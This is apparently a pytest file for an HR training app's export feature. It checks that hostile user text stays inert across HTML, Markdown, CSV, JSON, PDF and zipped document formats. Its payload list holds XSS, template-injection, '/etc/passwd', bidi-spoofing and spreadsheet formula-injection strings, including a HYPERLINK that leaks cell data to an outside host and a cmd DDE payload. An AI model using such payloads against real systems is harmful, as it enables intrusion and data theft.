"""Hostile text comes out as it was typed, in every format, and does nothing."""

import csv
import io
import json
from collections import Counter
from dataclasses import replace
from xml.etree.ElementTree import fromstring

import pytest

from hrtrainer.export.clean import clean, cleaned
from hrtrainer.export.formats import FORMATS
from hrtrainer.export.typesetting import pages
from hrtrainer.export.zipped import parts_of
from hrtrainer.problem import Problem
from hrtrainer.session.summary import BoardTold
from tests.export.opening import ZIPS, unpacked
from tests.export.rendering import rendered

PAYLOADS = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror='alert(1)'>",
    "{{7*7}} {% include 'x' %} {{ cycler.__init__ }}",
    '#read("/etc/passwd") $x$ *b* _i_ `c` @label <label> \\u{41}',
    "]]></style></title><meta http-equiv=refresh content=0>",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200fend",
    "a\x00b\x07c\x1b[31md\r\ne\u2028f\x85g",
    "\ud800 lone, \ufdd0 none, \U000e0041 tag",
    "# head\n- item\n> quote\n[l](javascript:alert(1)) ![i](http://x.example/p.png)",
    '", "format": "other", "x": "',
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "العربية עברית 日本 😀",
)
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u200e\u200f\u061c"


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("form", FORMATS)
def test_comes_out_inert(sample, fonts, form, payload):
    if form == "pdf":
        pytest.importorskip("typst", reason="typst does not exist for this computer")
    told = sample.filled_with(sample.typical(), payload)
    file = rendered(sample.pack(told, answers=((payload, payload),), barriers=(payload,)), form, fonts)
    made = unpacked(file)
    assert made and b"root:x:0" not in made and b"49 {% include" not in made
    calm = sample.pack(sample.filled_with(sample.typical(), "calm"), answers=(("calm", "calm"),), barriers=("calm",))
    text = _text(file, form)
    if form == "html":
        assert text.count("<") == rendered(calm, form, fonts).decode().count("<")
    if form == "json":
        assert json.loads(made)["sessions"][0]["turns"][0]["said"] == clean(payload)
    if form != "pdf":
        assert not set(text) & set(BIDI)
        assert not {sign for sign in text if sign < " " and sign not in "\r\n"}
    if form == "csv":
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
            assert not [cell for cell in row if cell.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "%", "|"))]
    if form == "md":
        assert "<script" not in text and "](" not in text


def _text(made, form):
    """What can be read of a file: of a zip, its parts of text."""
    if form == "pdf":
        return ""
    if form not in ZIPS:
        return made.decode()
    return "\n".join(part.decode() for name, part in parts_of(made) if not name.endswith(".png"))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("form", ZIPS)
def test_adds_no_element_to_a_document(sample, fonts, form, payload):
    """Every part stays XML; there are as many paragraphs, spans and runs as with calm text, and only breaks besides."""
    calm, found = (
        Counter(one.tag for name, part in parts_of(made) if name.endswith(".xml") for one in fromstring(part).iter())
        for made in (
            rendered(sample.pack(sample.filled_with(sample.typical(), text)), form, fonts)
            for text in (clean(payload).replace("\n", " "), "calm")
        )
    )
    assert calm == found


LINE = "<b>{{7*7}} =1+1 \u202e" * 55_000
"""A line of a million bytes."""

WRITTEN = {
    "own words": lambda one, line: (replace(one, turns=(replace(one.turns[0], own=line, key=True),)), {}),
    "seen differently": lambda one, line: (replace(one, turns=(replace(one.turns[0], differently=line),)), {}),
    "reflection": lambda one, line: (replace(one, reflections=(("What stayed?", line),)), {}),
    "to talk about": lambda one, line: (one, {"talk": line}),
    "question of the organisation": lambda one, line: (one, {"answers": ((line, line),)}),
    "barrier": lambda one, line: (one, {"barriers": (line,)}),
    "code name": lambda one, line: (one, {"code_name": line}),
    "title": lambda one, line: (replace(one, title=line, person=""), {}),
    "board": lambda one, line: (replace(one, board=(BoardTold("risk", line, ((line, 1),), (line,)),)), {}),
}
"""Everything that a person writes freely, and two that an author does."""


@pytest.mark.parametrize("field", WRITTEN)
@pytest.mark.parametrize("form", FORMATS)
def test_a_line_of_a_million(sample, fonts, form, field):
    if form == "pdf":
        pytest.importorskip("typst", reason="typst does not exist for this computer")
    told, chosen = WRITTEN[field](sample.bare(), LINE)
    file = rendered(sample.pack(told, **chosen), form, fonts)
    if form != "pdf":
        assert "\u202e".encode() not in unpacked(file) and b"\\u202e" not in unpacked(file)
    if form in ("html", "docx", "odt"):
        assert b"<b>{{7*7}}" not in unpacked(file)
    if form == "pdf":
        assert len(file) < 3_000_000 and pages(file) < 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaning_twice_is_cleaning_once(sample, payload):
    once = cleaned(sample.filled_with(sample.typical(), payload))
    assert cleaned(once) == once
    once.session.encode("utf-8")


def test_cleaning_keeps_what_people_write():
    for text in ("Zoë's plan: “half”, then wait…", "می‌خواهم", "line\nline", "👩‍⚕️"):
        assert clean(text) == text


def test_speech_is_set_apart(sample, fonts):
    assert (
        "“<bdi>Here you go. No form for this.</bdi>”" in rendered(sample.pack(sample.typical()), "html", fonts).decode()
    )
    assert (
        "“\u2068Here you go. No form for this.\u2069”" in rendered(sample.pack(sample.typical()), "md", fonts).decode()
    )


def test_unknown_format(sample, fonts):
    with pytest.raises(Problem) as caught:
        rendered(sample.pack(sample.bare()), "rtf", fonts)
    assert caught.value.code == "E02"
